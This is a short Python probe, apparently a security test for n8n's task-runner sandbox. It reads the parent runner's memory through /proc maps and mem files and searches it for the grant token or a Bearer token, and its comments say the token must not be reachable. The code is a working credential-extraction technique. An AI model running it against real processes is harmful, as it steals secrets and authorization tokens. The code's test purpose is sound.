# technique: read the runner's memory through /proc/<runner pid>/maps + /proc/<runner pid>/mem and search it for the token (env block or Authorization header)
# configs: default, stdlib_all
# The grant token is forbidden in every configuration. With nothing allowed the imports are
# refused; under stdlib * they are allowed, so the token must simply not be reachable.
import os
import re
def parent(pid):
    with open_ro('/proc/%s/stat' % pid) as handle:
        return handle.read().decode().rsplit(')', 1)[1].split()[1]
def open_ro(path):
    return os.fdopen(os.open(path, os.O_RDONLY), 'rb')
runner = parent(parent('self'))
patterns = [re.compile(rb'N8N_RUNNERS_GRANT_TOKEN=([A-Za-z0-9._~+/=-]{8,})'), re.compile(rb'Bearer ([A-Za-z0-9._~+/=-]{8,})')]
with open_ro('/proc/%s/maps' % runner) as handle:
    maps = handle.read().decode().splitlines()
mem = os.open('/proc/%s/mem' % runner, os.O_RDONLY)
budget = 256 * 1024 * 1024
for line in maps:
    fields = line.split()
    if 'r' not in fields[1] or (len(fields) > 5 and fields[5] in ('[vvar]', '[vsyscall]', '[vdso]')):
        continue
    start, end = (int(x, 16) for x in fields[0].split('-'))
    if end - start > budget:
        continue
    budget -= end - start
    try:
        chunk = os.pread(mem, end - start, start)
    except OSError:
        continue
    for pattern in patterns:
        hit = pattern.search(chunk)
        if hit:
            return [{'json': {'escaped': hit.group(1).decode('latin-1')}}]
return [{'json': {'result': 'token not found in memory'}}]
